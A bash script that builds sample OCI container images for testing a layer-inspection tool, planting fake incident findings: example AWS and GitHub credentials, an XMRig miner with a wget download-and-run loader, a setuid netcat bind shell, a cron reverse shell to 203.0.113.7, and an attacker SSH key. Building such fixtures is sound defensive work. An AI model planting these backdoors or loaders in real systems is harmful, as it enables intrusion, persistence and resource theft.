#!/usr/bin/env bash
# Regenerate the demo image tarballs in samples/ (see samples/README.md).
#
#   bash samples/make-samples.sh [OUTDIR]      # OUTDIR defaults to this script's folder
#
# Builds real OCI images with umoci from Debian's busybox-static package
# (fetched with `apt-get download`, or taken from $BUSYBOX_DEB if set) and
# plants fake incident-response findings in their layers. Every secret in
# here is a documented example value or obviously fake.
#
# Writes: webapp-multi.oci.tar   (one OCI layout, tags webapp-1.0 and webapp-debug, gzip layers)
#         webapp.docker.tar      (webapp-1.0 as a docker-archive, via skopeo, tag webapp:1.0)
#         webapp.docker.tar.gz   (the same, gzip'ed as a whole; skipped if the total gets > 4.5 MB)
# Needs: umoci, skopeo, python3, dpkg-deb, apt-get (or $BUSYBOX_DEB), GNU coreutils/tar/gzip.
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=${1:-$HERE}
mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
for tool in umoci skopeo python3 dpkg-deb gzip tar; do
    command -v "$tool" >/dev/null || { echo "$0: $tool not found" >&2; exit 1; }
done

WORK=$(mktemp -d /tmp/layerhound-samples.XXXXXX)
trap 'rm -rf "$WORK"' EXIT
export LC_ALL=C TZ=UTC SOURCE_DATE_EPOCH=1700000000
umask 022
T0=1700000000
STEP=0
ROOTLESS=()
[ "$(id -u)" -eq 0 ] || ROOTLESS=(--rootless)
L="$WORK/layout"; B="$WORK/bundle"; R="$B/rootfs"

# ---------------------------------------------------------------- busybox
if [ -n "${BUSYBOX_DEB:-}" ]; then
    DEB=$BUSYBOX_DEB
else
    mkdir "$WORK/deb"
    (cd "$WORK/deb" && apt-get download -q -o APT::Sandbox::User=root busybox-static >/dev/null)
    DEB=$(ls "$WORK"/deb/busybox-static_*.deb)
fi
BB_VERSION=$(dpkg-deb -f "$DEB" Version)
BB_SOURCE=$(dpkg-deb -f "$DEB" Source)
dpkg-deb -x "$DEB" "$WORK/bb"
[ -x "$WORK/bb/bin/busybox" ] || { echo "$0: no /bin/busybox in $DEB" >&2; exit 1; }

# ---------------------------------------------------------------- helpers
next_created() {
    STEP=$((STEP + 1))
    CREATED=$(date -u -d "@$((T0 + STEP * 60))" +%Y-%m-%dT%H:%M:%SZ)
}
stamp() { find "$1" -exec touch -h -d "@$T0" {} +; }
# own UID:GID PATH...: chown as root; without root (umoci --rootless) ownership
# cannot be set and everything stays owned by the container's root
own() { if [ "${#ROOTLESS[@]}" -eq 0 ]; then chown "$@"; fi; }
w() { mkdir -p "$(dirname "$1")"; printf '%s' "$2" >"$1"; }       # w FILE CONTENT
unpack() { rm -rf "$B"; umoci unpack "${ROOTLESS[@]}" --image "$1" "$B" >/dev/null; }
# repack SRC_IMAGE DST_IMAGE CREATED_BY: a layer from what was changed under $R
repack() {
    next_created; stamp "$R"
    umoci repack --history.created "$CREATED" --history.created_by "$3" --image "$2" "$B"
    rm -rf "$B"
}
# cfg IMAGE CREATED_BY UMOCI-CONFIG-ARGS...: config change, empty_layer history entry
cfg() {
    local img=$1 by=$2; shift 2
    next_created
    umoci config --history.created "$CREATED" --history.created_by "$by" --image "$img" "$@"
}

umoci init --layout "$L"
umoci new --image "$L:webapp-1.0"
umoci config --no-history --created "$(date -u -d "@$T0" +%Y-%m-%dT%H:%M:%SZ)" \
    --architecture amd64 --os linux --image "$L:webapp-1.0"

# ---------------------------------------------------------------- layer 1: base
unpack "$L:webapp-1.0"
mkdir -p "$R/bin" "$R/usr/bin" "$R/etc" "$R/tmp" "$R/root" "$R/var/log" \
    "$R/usr/share/doc/busybox-static" "$R/home/app"
cp "$WORK/bb/bin/busybox" "$R/bin/busybox"; chmod 0755 "$R/bin/busybox"
cp "$WORK/bb/usr/share/doc/busybox-static/copyright" "$R/usr/share/doc/busybox-static/copyright"
ln "$R/bin/busybox" "$R/bin/sh"          # hardlinks to busybox
ln "$R/bin/busybox" "$R/bin/ls"
ln -s busybox "$R/bin/cat"               # relative symlink
ln -s /bin/busybox "$R/usr/bin/wget"     # absolute symlink
ln -s /bin/busybox "$R/usr/bin/env"
chmod 01777 "$R/tmp"; chmod 0700 "$R/root"
w "$R/etc/passwd" $'root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000:app:/home/app:/bin/sh\nnobody:x:65534:65534:nobody:/nonexistent:/bin/false\n'
w "$R/etc/group" $'root:x:0:\napp:x:1000:\nnogroup:x:65534:\n'
w "$R/etc/hostname" $'webapp\n'
own 1000:1000 "$R/home/app"
repack "$L:webapp-1.0" "$L:webapp-1.0" \
    "/bin/sh -c #(nop) ADD file:cae662172fd450bb0cd710a769079c05bfc5d8e35efa6576edc7d0377afdd4a2 in / "
cfg "$L:webapp-1.0" '/bin/sh -c #(nop)  ENV PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin' \
    --config.env PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin

# ---------------------------------------------------------------- layer 2: COPY app
unpack "$L:webapp-1.0"
w "$R/app/.env" $'# production credentials -- do not commit\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\nAWS_DEFAULT_REGION=us-east-1\nDB_URL=postgres://app:app@db:5432/app\n'
w "$R/app/server.sh" $'#!/bin/sh\n# v1: loads credentials from .env\nset -a; . /app/.env; set +a\nexec busybox httpd -f -p "${PORT:-8080}" -h /app/www\n'
w "$R/app/www/index.html" $'<html><body><h1>webapp 1.0</h1></body></html>\n'
chmod 0755 "$R/app/server.sh"; chmod 0600 "$R/app/.env"
own -R 1000:1000 "$R/app"
repack "$L:webapp-1.0" "$L:webapp-1.0" \
    "/bin/sh -c #(nop) COPY dir:a172cedcae47474b615c54d510a5d84a8dea3032e958587430b413538be3f333 in /app "

# ---------------------------------------------------------------- layer 3: rm .env, new server.sh
unpack "$L:webapp-1.0"
rm "$R/app/.env"
w "$R/app/server.sh" $'#!/bin/sh\n# v2: credentials come from the environment now\nexec busybox httpd -f -p "${PORT:-8080}" -h /app/www\n'
own 1000:1000 "$R/app/server.sh"
repack "$L:webapp-1.0" "$L:webapp-1.0" \
    "/bin/sh -c rm -f /app/.env && sed -i '/.env/d' /app/server.sh"

# ---------------------------------------------------------------- layer 4: miner
unpack "$L:webapp-1.0"
w "$R/opt/.cache/xmrig/config.json" '{
    "autosave": true,
    "background": true,
    "cpu": {
        "enabled": true,
        "huge-pages": true,
        "max-threads-hint": 75
    },
    "donate-level": 0,
    "pools": [
        {
            "algo": "rx/0",
            "coin": "monero",
            "url": "pool.supportxmr.com:443",
            "user": "48EXAMPLEhHAmmeG28A7NHVYj9bUeNzToGqkMXUPct71Dzg5ucohKAmTvsLhCM5NNH8F8ug9y75BJf8p5pNY9USEfu1eSLZ",
            "pass": "webapp",
            "keepalive": true,
            "tls": true
        }
    ]
}
'
w "$R/opt/.cache/xmrig/start.sh" $'#!/bin/sh\ncd /opt/.cache/xmrig\n[ -x ./xmrig ] || { wget -q -O xmrig http://203.0.113.7/x/xmrig; chmod +x xmrig; }\nnohup ./xmrig -c config.json >/dev/null 2>&1 &\n'
chmod 0755 "$R/opt/.cache/xmrig/start.sh"
repack "$L:webapp-1.0" "$L:webapp-1.0" \
    "/bin/sh -c wget -qO- http://203.0.113.7/i.sh | sh"

cfg "$L:webapp-1.0" '/bin/sh -c #(nop)  ENV GITHUB_TOKEN=ghp_FAKEexampleTOKENdoNotUse0123456789ab' \
    --config.env GITHUB_TOKEN=ghp_FAKEexampleTOKENdoNotUse0123456789ab
cfg "$L:webapp-1.0" '/bin/sh -c #(nop)  LABEL maintainer=ops@example.com org.opencontainers.image.version=1.0' \
    --config.label maintainer=ops@example.com --config.label org.opencontainers.image.version=1.0 \
    --config.label org.opencontainers.image.title=webapp
cfg "$L:webapp-1.0" '/bin/sh -c #(nop) WORKDIR /app' --config.workingdir /app
cfg "$L:webapp-1.0" '/bin/sh -c #(nop)  EXPOSE 8080/tcp' --config.exposedports 8080/tcp
cfg "$L:webapp-1.0" '/bin/sh -c #(nop)  ENTRYPOINT ["/bin/sh" "-c" "/opt/.cache/xmrig/start.sh; exec /app/server.sh \"$@\"" "--"]' \
    --config.entrypoint /bin/sh --config.entrypoint -c \
    --config.entrypoint '/opt/.cache/xmrig/start.sh; exec /app/server.sh "$@"' --config.entrypoint --
cfg "$L:webapp-1.0" '/bin/sh -c #(nop)  CMD ["--port" "8080"]' \
    --config.cmd --port --config.cmd 8080

# ---------------------------------------------------------------- webapp-debug: layer 5
unpack "$L:webapp-1.0"
ln -s /bin/busybox "$R/usr/bin/nc"
w "$R/usr/local/bin/debug-shell" $'#!/bin/sh\n# "temporary" debug helper\nexec nc -lk -p 9001 -e /bin/sh\n'
chmod 04755 "$R/usr/local/bin/debug-shell"
w "$R/etc/cron.d/backup" $'# nightly backup\nSHELL=/bin/sh\n* * * * * root bash -c \'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\'\n'
mkdir -p "$R/root/.ssh"; chmod 0700 "$R/root/.ssh"
w "$R/root/.ssh/authorized_keys" $'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGbeeD68JkGoWzuBq+mAzjpz2m9KozsOYZokNL4AZgkt attacker@evil\n'
chmod 0600 "$R/root/.ssh/authorized_keys"
repack "$L:webapp-1.0" "$L:webapp-debug" \
    "/bin/sh -c ln -s /bin/busybox /usr/bin/nc && install -m 4755 debug-shell /usr/local/bin/ && echo '* * * * * root bash -c ...' > /etc/cron.d/backup && mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA... attacker@evil' >> /root/.ssh/authorized_keys"
cfg "$L:webapp-debug" '/bin/sh -c #(nop)  LABEL org.opencontainers.image.version=1.0-debug' \
    --config.label org.opencontainers.image.version=1.0-debug
cfg "$L:webapp-debug" '/bin/sh -c #(nop)  EXPOSE 9001/tcp' --config.exposedports 9001/tcp

# the images' own creation date: the time of their last step, as docker build does
for tag in webapp-1.0 webapp-debug; do
    last=$(umoci stat --json --image "$L:$tag" | python3 -c 'import json,sys; print(json.load(sys.stdin)["history"][-1]["created"])')
    umoci config --no-history --created "$last" --image "$L:$tag"
done

# ---------------------------------------------------------------- write the tarballs
umoci gc --layout "$L"
stamp "$L"
rm -f "$OUT/webapp-multi.oci.tar" "$OUT/webapp.docker.tar" "$OUT/webapp.docker.tar.gz"
tar --sort=name --numeric-owner --owner=0 --group=0 --format=gnu -C "$L" -cf "$OUT/webapp-multi.oci.tar" .
skopeo copy -q "oci:$L:webapp-1.0" "docker-archive:$OUT/webapp.docker.tar:webapp:1.0"
gzip -9 -n -c "$OUT/webapp.docker.tar" >"$WORK/webapp.docker.tar.gz"
total=$(( $(stat -c %s "$OUT/webapp-multi.oci.tar") + $(stat -c %s "$OUT/webapp.docker.tar") \
        + $(stat -c %s "$WORK/webapp.docker.tar.gz") ))
if [ "$total" -le $((4500 * 1024)) ]; then
    mv "$WORK/webapp.docker.tar.gz" "$OUT/webapp.docker.tar.gz"
else
    echo "note: skipped webapp.docker.tar.gz (total would be $total bytes)" >&2
fi

echo "base layer: Debian busybox-static $BB_VERSION, GPL-2.0 (source package: $BB_SOURCE)"
(cd "$OUT" && ls -l webapp-multi.oci.tar webapp.docker.tar webapp.docker.tar.gz 2>/dev/null | awk '{print $5, $9}')
